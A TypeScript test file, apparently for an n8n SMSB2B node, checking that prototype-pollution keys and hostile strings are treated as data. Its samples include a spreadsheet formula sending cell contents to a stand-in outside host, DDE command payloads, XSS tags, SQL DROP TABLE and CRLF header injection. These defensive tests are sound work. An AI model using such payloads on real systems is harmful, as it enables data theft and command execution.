import type { INodeParameters } from 'n8n-workflow';

import { runInWorkflow, runOnRoutingEngine, type Ended } from '../../support/engine';
import { useSandbox } from '../../support/sandbox';
import { nodeParameters } from './prepareCase';
import { byId } from './cases/case';

const sandbox = useSandbox();

const WAYS = [
	['the runner', runInWorkflow],
	["n8n's routing engine", runOnRoutingEngine],
] as const;

/** A value that itself has the name of something in every object, as JSON can bring it in. */
const POLLUTION = JSON.parse(
	'{"__proto__":{"polluted":"yes","name":"Eve"},"constructor":{"prototype":{"polluted":"yes"}}}',
) as INodeParameters;

/** Texts that do harm where somebody takes them for more than texts. */
const TEXTS = {
	name: '=HYPERLINK("https://elsewhere.example.com?"&A1,"Open")',
	surname: '<script>alert(1)</script><img src=x onerror=alert(1)>',
	custom4: "+cmd|' /C calc'!A0",
	custom1: '={{ $env.HOME }}',
	custom2: "@SUM(1+1)*cmd|' /C calc'!A0\t\"; DROP TABLE contacts; --",
	custom3: '{{ 7 * 7 }} ${7 * 7} %0d%0aSet-Cookie: a=b',
};

describe.each(WAYS)('by %s, ', (_way, run) => {
	async function execute(
		operation: string,
		own: INodeParameters,
		items: object[] = [{}],
	): Promise<Ended> {
		const ended = await run({
			parameters: nodeParameters(operation, own),
			items: items as Array<Record<string, string>>,
			credential: sandbox.credential,
		});
		expect(Object.keys(Object.prototype)).toEqual([]);
		expect({}).not.toHaveProperty('polluted');
		return ended;
	}

	test('form fields named like members of every object set nothing', async () => {
		const own = { mobile: '6971234567', additionalFields: POLLUTION };
		expect((await execute('contact.create', own)).failure).toBeUndefined();
		const [{ body }] = await sandbox.calls('contact/add');
		expect(body).toEqual({ key: 'demo-key', type: 'json', mobile: '6971234567' });
	});

	test.each(['__proto__', 'constructor', 'toString'])(
		'a field to clear that is named %s is refused, or is data',
		async (name) => {
			const contact = byId('500001');
			await execute('contact.update', { contactId: contact, updateFields: { clear: [name] } });
			for (const { body } of await sandbox.calls('contact/update'))
				expect(Object.keys(body).sort()).toEqual(['contactId', 'key', name, 'type'].sort());
		},
	);

	test('texts for spreadsheets, browsers and templates pass through as data', async () => {
		const fields = Object.keys(TEXTS);
		const additionalFields = Object.fromEntries(
			fields.map((field) => [field, `={{ $json.${field} }}`]),
		);
		const created = await execute('contact.create', { mobile: '6971234567', additionalFields }, [
			TEXTS,
		]);
		expect(created.failure).toBeUndefined();
		const [{ body }] = await sandbox.calls('contact/add');
		expect(body).toMatchObject(TEXTS);
		for (const responseFormat of ['json', 'xml']) {
			const contactId = byId(String(created.items[0].json.contactId));
			const read = await execute('contact.get', { contactId, options: { responseFormat } });
			expect(read.items[0].json).toMatchObject(TEXTS);
		}
	});

	test('what SMSB2B says with a refusal is quoted as a text', async () => {
		const remarks = '<script>alert(1)</script>={{ 1 + 1 }}';
		await sandbox.fault({
			kind: 'body',
			body: JSON.stringify({ status: '0', error: '105', remarks }),
			contentType: 'application/json',
		});
		const { failure } = await execute('account.getBalance', {});
		const quoted = remarks.replaceAll('<', '‹').replaceAll('>', '›');
		expect(failure?.description).toContain(`SMSB2B said: "${quoted}" (code 105)`);
	});

	test('keys of an answer that are named like members of every object stay out of the raw output', async () => {
		await sandbox.fault({
			kind: 'body',
			body: '{"status":"1","balance":"5","__proto__":{"polluted":1},"a":{"\\u005f_proto__":[1],"b":2}}',
			contentType: 'application/json',
		});
		const { items } = await execute('account.getBalance', { options: { output: 'raw' } });
		expect(items.map(({ json }) => JSON.stringify(json))).toEqual([
			'{"response":{"status":"1","balance":"5","a":{"b":2}}}',
		]);
	});
});

describe('fields of the input that the user names', () => {
	test.each(['__proto__', 'constructor', 'constructor.name', '__proto__.polluted', 'to.__proto__'])(
		'%s is no number of an item',
		async (toField) => {
			const { failure } = await runInWorkflow({
				parameters: nodeParameters('sms.sendBulk', {
					...{ recipients: 'inputItems', toField, text: 'Hello' },
				}),
				items: [{ to: '6971234567' }],
				credential: sandbox.credential,
			});
			expect(failure?.message).toContain(
				`No input item has a number in the field that "To Field" names: ${toField}`,
			);
			expect(await sandbox.calls()).toEqual([]);
		},
	);
});
